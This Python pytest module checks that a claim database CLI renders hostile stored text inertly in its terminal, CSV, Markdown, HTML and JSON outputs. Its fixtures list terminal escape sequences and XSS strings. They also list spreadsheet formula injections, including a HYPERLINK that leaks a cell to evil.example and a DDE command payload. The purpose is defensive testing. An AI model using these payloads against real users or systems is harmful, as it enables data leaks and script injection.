"""Hostile stored text reaches every output inert: the output shows it, never obeys it.

A claim database takes text from the open web and its output is read in terminals,
spreadsheets, Markdown viewers, browsers and fact-check aggregators. Each test stores
hostile text (rich markup, terminal escape sequences, spreadsheet formulas, HTML,
Markdown) and reads it back through one output; the property test at the end sends
generated hostile text through all of them. One database per backend for the module,
emptied before each test and each generated example.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from sqlalchemy import delete, func, select
from sqlmodel import SQLModel
from typer.testing import CliRunner

from nkru_claims.claimreview import claimreview_documents
from nkru_claims.cli import app
from nkru_claims.csv_cells import FORMULA_STARTS, from_spreadsheet, spreadsheet_safe
from nkru_claims.db import make_engine, session_scope
from nkru_claims.models import Claim, Party, Stance
from nkru_claims.reports import visible_controls
from nkru_claims.services.claims import (
    StanceInput,
    add_claim,
    add_evidence,
    add_stance,
    add_wording,
)
from nkru_claims.services.parties import add_party
from nkru_claims.services.sources import add_source

MARKUP = ["[/]", "troops [of the north]", "[link=https://evil.example]click[/link]",
          "[bold red]x", ":warning: [i]"]
CONTROLS = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x1b\\click"
            "\x1b]8;;\x1b\\", "bell\x07", "\x9b31mred", "\u202eevil\u202c", "a\rb",
            "clear\x0cscreen", "del\x7f"]
# (Stored text is stripped, so a leading tab or CR is only in the unit tests below.)
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3",
            "@SUM(A1:A9)", "=1+1\t\rx", "'=already quoted", "''+twice"]
HTML_AND_MARKDOWN = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                     "[x](javascript:alert(1))", "![i](https://evil.example/t.png)",
                     "line\n# heading", "line\n- item", "line\n\n1. item", "`code`",
                     "| a | b |", "**bold** _em_ ~~s~~ $x$", "&amp; &lt;", "<!--", "</script>",
                     "back\\slash", "end ##"]
SNIPPETS = MARKUP + CONTROLS + FORMULAS + HTML_AND_MARKDOWN
# What must never reach a terminal raw (newline and tab are layout).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e"
                         "\u2066-\u2069]")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
SOURCE_URL = "https://example.org/report"
RUNNER = CliRunner()


# ------------------------------------------------------------------ the database


@pytest.fixture(scope="module",
                params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def module_url(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory,
               sqlite_template: Path) -> str:
    """One database per backend for the whole module."""
    if request.param == "sqlite":
        path = tmp_path_factory.mktemp("hostile") / "claims.db"
        shutil.copy(sqlite_template, path)
        return f"sqlite:///{path}"
    return request.getfixturevalue("migrated_postgres_url")


def wipe(url: str) -> None:
    engine = make_engine(url)
    with engine.begin() as connection:
        for table in reversed(SQLModel.metadata.sorted_tables):
            connection.execute(delete(table))
    engine.dispose()


@pytest.fixture
def url(module_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    """The module's database, emptied; a terminal wide enough that nothing wraps."""
    monkeypatch.setenv("COLUMNS", "2000")
    wipe(module_url)
    return module_url


def run(url: str, *args: str, input: str | None = None):  # noqa: A002, ANN201
    return RUNNER.invoke(app, ["--db", url, *args], input=input)


def ok(url: str, *args: str) -> str:
    result = run(url, *args)
    assert result.exit_code == 0, (args, result.output, result.exception)
    assert "Traceback" not in result.output
    return result.stdout


def one_error_line(result) -> str:  # noqa: ANN001
    assert result.exit_code == 1, result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    return lines[0]


def store(url: str, texts: list[str], party_names: tuple[str, str], *,
          note: str | None = None, outlet: str | None = None) -> list[int]:
    """Each text as a contested claim (the first party asserts, quoting it; the second
    denies), with a wording, evidence and a verdict carrying it too."""
    engine = make_engine(url)
    ids = []
    with session_scope(engine) as session:
        for name in party_names:
            add_party(session=session, name=name, kind="organisation")
        source = add_source(session=session, url=SOURCE_URL, outlet=outlet or "Outlet",
                            title=texts[0])
        for text in texts:
            claim = add_claim(session=session, text=text, verdict="false", verdict_note=note)
            add_stance(session=session, claim_id=claim.id, stance=StanceInput(
                party=party_names[0], kind="asserts", quote=text, source_id=source.id))
            add_stance(session=session, claim_id=claim.id, stance=StanceInput(
                party=party_names[1], kind="denies"))
            add_wording(session=session, claim_id=claim.id, text=text, language="en",
                        source_id=None)
            add_evidence(session=session, claim_id=claim.id, description=text,
                         bearing="undermines", source_id=source.id, quote=text)
            ids.append(claim.id)
    engine.dispose()
    return ids


def stored_texts(url: str) -> tuple[list[str], list[str], list[str]]:
    engine = make_engine(url)
    with session_scope(engine) as session:
        result = (
            list(session.exec(select(Claim.text).order_by(Claim.text)).scalars()),
            list(session.exec(select(Party.name).order_by(Party.name)).scalars()),
            list(session.exec(select(Stance.quote).where(Stance.quote.is_not(None))
                              .order_by(Stance.quote)).scalars()),
        )
    engine.dispose()
    return result


def claim_count(url: str) -> int:
    engine = make_engine(url)
    with engine.connect() as connection:
        count = connection.execute(select(func.count()).select_from(Claim)).scalar_one()
    engine.dispose()
    return count


# ------------------------------------------------------------------ what "inert" means


def squeeze(text: str) -> str:
    return "".join(text.split())


def assert_terminal_inert(output: str, texts: list[str]) -> None:
    """Nothing raw reaches the terminal, and each text is there, spelt out."""
    found = RAW_CONTROL.search(output)
    assert found is None, f"raw {found.group()!r} in terminal output"
    flat = squeeze(output)
    for text in texts:
        for line in visible_controls(text).split("\n"):
            assert squeeze(line) in flat, (line, output)


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


def md_plain(text: str) -> str:
    return visible_controls(re.sub(r"\r\n|[\r\n\u2028\u2029]", " ", text))


MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
FORBIDDEN_MD = {"html_block", "html_inline", "image", "code_inline", "code_block", "fence",
                "blockquote_open", "table_open", "hr", "s_open", "softbreak", "hardbreak"}


def assert_markdown_inert(markdown: str, claims: list[tuple[int, str]],
                          parties: list[str]) -> None:
    """Only our own structure: the headings we wrote, with the stored text as plain text,
    and no HTML, code, image, table, quote, strike or link but the source's."""
    tokens = MARKDOWN.parse(markdown)
    flat = [t for token in tokens for t in [token, *(token.children or [])]]
    assert not FORBIDDEN_MD & {t.type for t in flat}, {t.type for t in flat} & FORBIDDEN_MD
    for token in flat:
        if token.type == "link_open":
            assert token.attrs["href"] == SOURCE_URL
    headings = ["".join(c.content for c in tokens[i + 1].children if c.type == "text")
                for i, t in enumerate(tokens) if t.type == "heading_open"]
    expected = (["Who asserts, who denies"] + [f"#{i} {md_plain(t)}" for i, t in claims]
                + ["Party records"] + [f"{md_plain(p)} (organisation)" for p in parties])
    assert headings == expected


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.data: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action"):
                assert (value or "").startswith(("#", "https://", "http://")), value

    def handle_data(self, data: str) -> None:
        self.data.append(data)


HTML_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "h4",
             "ul", "ol", "li", "b", "nav", "a", "section", "p", "span", "div", "table",
             "caption", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "strong", "q",
             "blockquote", "cite", "code"}


def assert_html_inert(page: str, texts: list[str]) -> None:
    parser = _Page()
    parser.feed(page)
    parser.close()
    assert parser.tags <= HTML_TAGS, parser.tags - HTML_TAGS
    data = "".join(parser.data)
    for text in texts:
        assert text in data


# ------------------------------------------------------------------ 1. the terminal

PARTIES = ("Troops [/] [of the north] Agency", "[bold red]Acme [link=https://x]click[/link]")


def test_markup_in_stored_text_is_shown_literally(url: str) -> None:
    store(url, MARKUP, PARTIES)
    everything = MARKUP + list(PARTIES)
    for args in (("list",), ("report",)):
        assert_terminal_inert(ok(url, *args), everything)
    assert_terminal_inert("".join(ok(url, "show", str(c["id"])) for c in
                                  json.loads(ok(url, "list", "--json"))), everything)
    assert_terminal_inert(ok(url, "party", "list"), list(PARTIES))
    assert_terminal_inert(ok(url, "source", "list"), [MARKUP[0]])  # (the title)
    for name in PARTIES:
        assert_terminal_inert(ok(url, "party", "show", name), [name, *MARKUP])


def test_control_characters_reach_the_terminal_spelt_out(url: str) -> None:
    parties = ("Evil\x1b]0;title\x07 Agency", "Bidi \u202eycnegA\u202c Office")
    store(url, CONTROLS, parties, outlet="Out\x1b[5mlet")
    everything = CONTROLS + list(parties)
    outputs = [ok(url, "list"), ok(url, "report"), ok(url, "party", "list"),
               ok(url, "source", "list")]
    outputs += [ok(url, "show", str(c["id"])) for c in json.loads(ok(url, "list", "--json"))]
    assert_terminal_inert("".join(outputs), [*everything, "Out\x1b[5mlet"])
    assert "\\x1b]0;pwned\\x07" in "".join(outputs)
    assert "\\u202eevil\\u202c" in "".join(outputs)


@pytest.mark.xfail(strict=True, reason="party show prints with typer.echo in cli/parties.py "
                   "(not this task's file): it needs render.stored / visible_controls")
def test_party_show_spells_out_control_characters(url: str) -> None:
    parties = ("Evil\x1b]0;title\x07 Agency", "Bidi \u202eycnegA\u202c Office")
    store(url, ["\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"], parties)
    assert_terminal_inert(ok(url, "party", "show", parties[0]), [parties[0]])


# ------------------------------------------------------------------ 2. spreadsheets


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"),
    ("''@x", "'''@x"),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e-3", "-1e-3"), ("'plain", "'plain"),
    ("plain = fine", "plain = fine"), ("", ""), ("'", "'"), ("-", "'-"),
    ("\x1b[2J@SUM(A1)", "'\x1b[2J@SUM(A1)"), ("\x07", "'\x07"), ("a\x1b", "a\x1b"),
])
def test_formula_cells_get_an_apostrophe_that_import_removes(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
    assert from_spreadsheet(written) == cell


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("'=+-@\t\r\x1b\x07 0123456789.eEa\"")))
def test_the_apostrophe_rule_is_exactly_undone(cell: str) -> None:
    written = spreadsheet_safe(cell)
    assert from_spreadsheet(written) == cell
    assert not written.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(written)


def test_csv_outputs_are_safe_to_open_and_raw_on_request(url: str, tmp_path: Path) -> None:
    store(url, FORMULAS, ("=cmd|' /C calc'!A0 Corp", "@Evil Corp"))
    listed = assert_csv_safe(ok(url, "list", "--csv"))
    assert {from_spreadsheet(row[4]) for row in listed[1:]} == set(FORMULAS)
    exported = tmp_path / "claims.csv"
    ok(url, "export", str(exported), "--format", "csv")
    rows = assert_csv_safe(exported.read_bytes().decode("utf-8"))
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in {r[1] for r in rows}
    raw = tmp_path / "raw.csv"
    ok(url, "export", str(raw), "--format", "csv", "--raw-csv")
    raw_rows = list(csv.reader(io.StringIO(raw.read_bytes().decode("utf-8"), newline="")))
    assert {r[1] for r in raw_rows[1:]} == set(FORMULAS)
    assert {r[12] for r in raw_rows[1:] if r[12]} == {"=cmd|' /C calc'!A0 Corp", "@Evil Corp"}
    assert one_error_line(run(url, "export", str(tmp_path / "x.json"), "--raw-csv")) == (
        "Error: --raw-csv applies to --format csv only")


def test_csv_export_import_export_is_unchanged(url: str, tmp_path: Path) -> None:
    texts = FORMULAS + ["-5", "+44 20 7946 0000", "'plain apostrophe", "=" * 3]
    store(url, texts, ("@handle Agency", "-minus Office"), note="=1+1")
    before = stored_texts(url)
    first = tmp_path / "first.csv"
    ok(url, "export", str(first), "--format", "csv")
    wipe(url)
    ok(url, "import", str(first))
    assert stored_texts(url) == before
    second = tmp_path / "second.csv"
    ok(url, "export", str(second), "--format", "csv")
    assert second.read_bytes() == first.read_bytes()
    wipe(url)  # and through standard input, where a CR inside a cell survives too
    result = run(url, "import", "-", "--format", "csv", input=first.read_bytes().decode())
    assert result.exit_code == 0, result.output
    assert stored_texts(url) == before


# ------------------------------------------------------------------ 3. malformed CSV

HEADER = "claim_ref,claim_text,party,stance\n"


@pytest.mark.parametrize(("body", "message"), [
    ('a,Fine claim.,Russia,denies\nb,"Unclosed claim,Russia,denies\nc,Third.,Kremlin,denies\n',
     "Error: line 3: a quoted field that starts in this record is never closed"),
    ('a,"Quoted" then text,Russia,denies\n', "Error: line 2: not readable as CSV"),
    ("a,Fine claim.,Russia,denies\nb,Too few cells,Russia\n",
     "Error: line 3: 3 cells but the header has 4"),
    ("a,Fine claim.,Russia,denies\n\nb,Too many,Russia,denies,surprise\n",
     "Error: line 4: 5 cells but the header has 4"),
    ("a,Fine claim.,Russia,denies\nb,Stray\x00NUL,Russia,denies\n",
     "Error: line 3: a NUL character"),
    ('a,"two\nlines",Russia,denies\nb,NUL \x00 after a multi-line cell,Russia,denies\n',
     "Error: line 4: a NUL character"),
])
def test_malformed_csv_is_refused_with_its_line(url: str, tmp_path: Path, body: str,
                                                message: str) -> None:
    path = tmp_path / "sheet.csv"
    path.write_text(HEADER + body, encoding="utf-8")
    assert one_error_line(run(url, "import", str(path))).startswith(message)
    assert claim_count(url) == 0


# ------------------------------------------------------------------ 4. Markdown


def test_markdown_report_shows_html_links_and_headings_as_text(url: str) -> None:
    parties = ("<b>Bold</b> [x](javascript:alert(1)) Agency", "Pipe | `tick` Office")
    ids = store(url, HTML_AND_MARKDOWN, parties)
    markdown = ok(url, "report", "--format", "md", "--all")
    assert "<script" not in markdown and "<img" not in markdown
    assert_markdown_inert(markdown, list(zip(ids, HTML_AND_MARKDOWN, strict=True)),
                          sorted(parties))


# ------------------------------------------------------------------ 5. ClaimReview


def test_claimreview_refuses_a_base_url_that_is_not_http(url: str, tmp_path: Path) -> None:
    [claim_id] = store(url, ["A claim."], ("Alpha Agency", "Beta Office"))
    target = tmp_path / "reviews.json"
    for base in ("javascript:alert(1)//", "data:text/html,x", "https://", "https://a b.org",
                 "ftp://example.org"):
        line = one_error_line(run(url, "export", str(target), "--format", "claimreview",
                                  "--base-url", base))
        assert line.startswith("Error: --base-url must be an http:// or https:// address")
        assert not target.exists()
    ok(url, "export", str(target), "--format", "claimreview", "--base-url", "https://ex.org")
    assert json.loads(target.read_text(encoding="utf-8"))[0]["url"] == f"https://ex.org/claims/{claim_id}"


def test_claimreview_can_sit_inside_a_script_element(url: str) -> None:
    texts = ["</script><script>alert(1)</script>", "<!--<script>", "\\</script>"]
    store(url, texts, ("</script> Agency", "Beta Office"), note="</SCRIPT>")
    written = ok(url, "export", "-", "--format", "claimreview")
    assert "</" not in written and "<!--" not in written
    engine = make_engine(url)
    with session_scope(engine) as session:
        assert json.loads(written) == claimreview_documents(session)
    engine.dispose()
    assert {d["claimReviewed"] for d in json.loads(written)} == set(texts)


# ------------------------------------------------------------------ 6. HTML


def test_html_report_stays_inert(url: str) -> None:
    store(url, SNIPPETS, ('"><script>alert(1)</script> Agency', "' onmouseover='x Office"),
          outlet="<iframe src=javascript:alert(1)>")
    assert_html_inert(ok(url, "report", "--format", "html"), SNIPPETS)


# ------------------------------------------------------------------ every format at once

ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
                   max_size=6)
ASCII_TEXT = st.text(st.characters(max_codepoint=127, exclude_characters="\x00"), max_size=6)


def strings_in(data: object) -> set[str]:
    """Every string anywhere inside parsed JSON."""
    if isinstance(data, str):
        return {data}
    values = data.values() if isinstance(data, dict) else data if isinstance(data, list) else []
    return set().union(*(strings_in(v) for v in values)) if values else set()


def hostile(pieces: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return (st.lists(st.one_of(st.sampled_from(SNIPPETS), pieces), min_size=1, max_size=4)
            .map(lambda parts: "".join(parts).strip())
            .filter(lambda text: text and len(text) < 150))


# No shrinking: each example runs about twenty commands, and the failing example is
# printed as drawn, which names the hostile text well enough.
@settings(max_examples=12, deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate),
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=hostile(ANY_TEXT), party=hostile(ASCII_TEXT), note=hostile(ANY_TEXT))
def test_hostile_text_is_inert_in_every_output(url: str, text: str, party: str,
                                               note: str) -> None:
    wipe(url)
    names = (f"{party} Alpha", f"Beta {party}")
    [claim_id] = store(url, [text], names, note=note, outlet=party)
    texts = [text, *names]
    assert_terminal_inert(ok(url, "list") + ok(url, "show", str(claim_id)) + ok(url, "report")
                          + ok(url, "party", "list"), texts + [note])
    for args in (("list", "--json"), ("show", str(claim_id), "--json"),
                 ("report", "--format", "json"), ("export", "-", "--format", "json")):
        written = ok(url, *args)
        assert not re.search("[\x00-\x1f]", written.replace("\n", "")), args
        assert text in strings_in(json.loads(written)), args
    assert_markdown_inert(ok(url, "report", "--format", "md"), [(claim_id, text)],
                          sorted(names))
    assert_html_inert(ok(url, "report", "--format", "html"), [text, *names, note])
    assert_csv_safe(ok(url, "list", "--csv"))  # (click strips ANSI from it in a pipe)
    rows = assert_csv_safe(ok(url, "export", "-", "--format", "csv"))
    assert text in {from_spreadsheet(cell) for cell in rows[1]}
    reviews = ok(url, "export", "-", "--format", "claimreview", "--base-url", "https://ex.org")
    assert "</" not in reviews and "<!--" not in reviews
    [review] = json.loads(reviews)
    assert (review["claimReviewed"], review["reviewBody"]) == (text, note)
